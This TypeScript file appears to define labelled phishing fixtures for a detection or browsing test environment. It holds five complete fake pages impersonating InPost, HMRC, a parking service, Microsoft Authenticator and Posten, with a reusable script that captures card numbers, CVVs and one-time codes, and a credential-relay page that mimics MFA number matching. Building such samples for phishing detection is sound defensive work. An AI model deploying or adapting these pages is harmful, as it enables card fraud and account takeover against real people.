import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/** Mobile-first card-capture flow used by the SMS-lure kits: details → card → "OTP" → done. */
function cardFlow(o: { lang: string; api: string; l: Record<string, string> }): string {
  const l = o.l;
  return `<form id="f1" class="st"><h3>${l.h1}</h3><input name="name" placeholder="${l.name}" required><input name="addr" placeholder="${l.addr}"><input name="zip" placeholder="${l.zip}"><input name="phone" placeholder="${l.phone}"><button>${l.next}</button></form>
<form id="f2" class="st" style="display:none"><h3>${l.h2}</h3><input name="cc" placeholder="${l.cc}" inputmode="numeric" autocomplete="cc-number" maxlength="19"><div style="display:flex;gap:8px"><input name="exp" placeholder="${l.exp}"><input name="cvv" placeholder="CVV" maxlength="4"></div><button>${l.pay}</button></form>
<form id="f3" class="st" style="display:none"><h3>${l.h3}</h3><p style="font-size:14px">${l.otpText}</p><input name="otp" placeholder="••••••" maxlength="8"><button>${l.confirm}</button></form>
<div id="f4" class="st" style="display:none"><p>✅ ${l.done}</p></div>
<script>(function(){var sid=Math.random().toString(36).slice(2);function send(f,n){var d=new FormData(f);d.append('sid',sid);d.append('step',n);navigator.sendBeacon('${o.api}',d)}
[1,2,3].forEach(function(n){document.getElementById('f'+n).addEventListener('submit',function(e){e.preventDefault();send(this,n);this.style.display='none';var nx=document.getElementById('f'+(n+1));setTimeout(function(){nx.style.display='block'},n==2?2500:300)})})})();</script>`;
}
const mobileCss = `body{background:#f4f4f4;max-width:480px;margin:0 auto}.st{background:#fff;padding:18px;margin:12px;border-radius:8px}.st input{width:100%;padding:12px;border:1px solid #bbb;border-radius:6px;margin:6px 0;font-size:16px}.st button{width:100%;padding:14px;border:0;border-radius:6px;font-size:16px;font-weight:700;margin-top:8px}`;

export const entries: Entry[] = [
{
  id: 'j-sms-inpost-doplata-pl',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://inpost-pl.paczka-doplata24.pl/sledzenie/?id=PL5520198',
  routes: {
    'inpost-pl.paczka-doplata24.pl/sledzenie/': htmlRoute(doc({
      lang: 'pl',
      title: 'InPost – Śledzenie przesyłki',
      style: mobileCss + `header{background:#ffcd00;padding:14px;font-weight:900;font-size:22px}.st button{background:#ffcd00;color:#000}`,
      body: `<header>InPost</header><div class="st"><p>Przesyłka nr <b>PL5520198</b> została zatrzymana w sortowni z powodu <b>niedopłaty 1,99 zł</b> za przekroczenie gabarytu. Opłać różnicę, aby paczka trafiła do Paczkomatu®.</p></div>
${cardFlow({ lang: 'pl', api: '/sledzenie/zapisz.php', l: { h1: 'Dane odbiorcy', name: 'Imię i nazwisko', addr: 'Adres', zip: 'Kod pocztowy', phone: 'Numer telefonu', next: 'Dalej', h2: 'Dopłata: 1,99 zł', cc: 'Numer karty', exp: 'MM/RR', pay: 'Zapłać 1,99 zł', h3: 'Potwierdzenie BLIK / 3D Secure', otpText: 'Wpisz kod SMS otrzymany z banku lub kod BLIK.', confirm: 'Potwierdź', done: 'Płatność przyjęta. Przesyłka zostanie nadana ponownie.' } })}
<p style="font-size:11px;text-align:center;color:#666">© InPost S.A. 2026 · Regulamin · Polityka prywatności</p>`,
    })),
    'inpost-pl.paczka-doplata24.pl/sledzenie/zapisz.php': jsonRoute({ ok: true }),
  },
},
{
  id: 'j-phish-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-refund',
  url: 'https://hmrc-gov-uk.refund-claim-portal.co/claim/start',
  routes: {
    'hmrc-gov-uk.refund-claim-portal.co/claim/start': htmlRoute(doc({
      title: 'HM Revenue & Customs: Tax refund claim - GOV.UK',
      style: `body{font-family:Arial}header{background:#0b0c0c;color:#fff;padding:10px 20px;border-bottom:8px solid #1d70b8}main{max-width:640px;margin:24px auto;padding:0 16px}input{width:100%;padding:8px;border:2px solid #0b0c0c;margin:4px 0 14px}button{background:#00703c;color:#fff;border:0;padding:10px 18px;font-size:17px}`,
      body: `<header><b>GOV.UK</b></header><main><h1>Claim your tax refund</h1><p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£428.64</b>.</p><p>Please submit the tax refund request and allow us 3-5 working days to process it.</p>
<form method="post" action="/claim/process"><label>Full name<input name="fn"></label><label>Date of birth<input name="dob" placeholder="DD/MM/YYYY"></label><label>National Insurance number<input name="nino"></label><label>Mother's maiden name<input name="mmn"></label><label>Card number (refund will be credited to this card)<input name="card"></label><label>Expiry date<input name="exp"></label><label>Security code<input name="cvv"></label><button>Submit refund request</button></form>
<p style="font-size:13px">© Crown copyright</p></main>`,
    })),
    'hmrc-gov-uk.refund-claim-portal.co/claim/process': redirectRoute(302, 'https://www.gov.uk/'),
  },
},
{
  id: 'j-qr-parking-payment',
  label: 'phishing',
  kind: 'qr-phish',
  url: 'https://parkmobile-pay.citymeter-qr.com/zone/4417',
  routes: {
    'parkmobile-pay.citymeter-qr.com/zone/4417': htmlRoute(doc({
      title: 'Pay for Parking - Zone 4417',
      style: mobileCss + `header{background:#00a651;color:#fff;padding:14px;font-weight:700}.st button{background:#00a651;color:#fff}.z{font-size:40px;font-weight:800;text-align:center}`,
      body: `<header>🅿 City Parking · Pay by phone</header>
<div class="st"><p style="text-align:center">You scanned the QR code on meter</p><p class="z">Zone 4417</p><p style="text-align:center;font-size:13px">Downtown – Main St &amp; 5th Ave · Max 2 hours · $2.50/hr</p><label>Duration <select style="width:100%;padding:10px"><option>30 min – $1.25</option><option selected>1 hour – $2.50</option><option>2 hours – $5.00</option></select></label><label>License plate<input style="width:100%;padding:10px;border:1px solid #bbb;border-radius:6px"></label></div>
${cardFlow({ lang: 'en', api: '/zone/4417/pay', l: { h1: 'Create guest account', name: 'Name', addr: 'Billing address', zip: 'ZIP', phone: 'Mobile number (for expiry reminders)', next: 'Continue', h2: 'Payment', cc: 'Card number', exp: 'MM/YY', pay: 'Start parking', h3: 'Confirm payment', otpText: 'Enter the 6-digit code we texted you.', confirm: 'Confirm', done: 'Parking session started. You will get a reminder 10 minutes before expiry.' } })}`,
    })),
    'parkmobile-pay.citymeter-qr.com/zone/4417/pay': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'j-qr-m365-mfa-reenroll',
  label: 'phishing',
  kind: 'qr-phish',
  url: 'https://mfa-reenroll.msauth-compliance.com/q/?tk=Y2hyaXMud2VpbEBkdW5tb3JlLWV4YW1wbGUuY29t',
  routes: {
    'mfa-reenroll.msauth-compliance.com/q/': htmlRoute(doc({
      title: 'Microsoft Authenticator - Re-enrollment',
      style: `body{background:#f2f2f2;max-width:480px;margin:0 auto}.b{background:#fff;margin:30px 12px;padding:28px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:10px 0;font-size:16px;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:10px 30px;font-size:15px}`,
      body: `<div class="b"><p style="color:#737373;font-weight:600">Microsoft</p><h2>Multi-factor authentication update</h2><p>Your organization requires all users to re-register Microsoft Authenticator before <b>December 1</b>. Sign in to keep access to email and Teams.</p>
<form id="f"><input id="u" readonly><input id="p" type="password" placeholder="Password"><button>Verify</button></form><div id="c" style="display:none"><p>Approve the sign-in request. Enter the number shown in your Authenticator app:</p><p style="font-size:40px;text-align:center" id="n">--</p></div></div>
<script>var u='';try{u=atob(new URLSearchParams(location.search).get('tk'))}catch(e){}document.getElementById('u').value=u;
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/q/relay',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:u,p:document.getElementById('p').value})}).then(function(r){return r.json()}).then(function(j){document.getElementById('f').style.display='none';document.getElementById('c').style.display='block';document.getElementById('n').textContent=j.num})}</script>`,
    })),
    'mfa-reenroll.msauth-compliance.com/q/relay': jsonRoute({ num: 47 }),
  },
},
{
  id: 'j-sms-posten-toll-no',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://posten-no.tollavgift-betaling.com/sporing?kolli=70701234567890',
  routes: {
    'posten-no.tollavgift-betaling.com/sporing': htmlRoute(doc({
      lang: 'nb',
      title: 'Posten - Sporing',
      style: mobileCss + `header{background:#e32d22;color:#fff;padding:14px;font-weight:700}.st button{background:#e32d22;color:#fff}`,
      body: `<header>Posten</header><div class="st"><p>Sendingen din fra <b>Temu</b> venter på fortolling. Toll og mva.: <b>kr 24,00</b>. Betal innen 48 timer for å unngå retur.</p></div>
${cardFlow({ lang: 'nb', api: '/sporing/lagre', l: { h1: 'Mottaker', name: 'Fullt navn', addr: 'Adresse', zip: 'Postnummer', phone: 'Mobilnummer', next: 'Neste', h2: 'Betal kr 24,00', cc: 'Kortnummer', exp: 'MM/ÅÅ', pay: 'Betal', h3: 'BankID / 3D Secure', otpText: 'Skriv inn engangskoden fra banken din.', confirm: 'Bekreft', done: 'Betaling mottatt. Sendingen leveres innen 2–3 virkedager.' } })}`,
    })),
    'posten-no.tollavgift-betaling.com/sporing/lagre': jsonRoute({ ok: 1 }),
  },
},
];
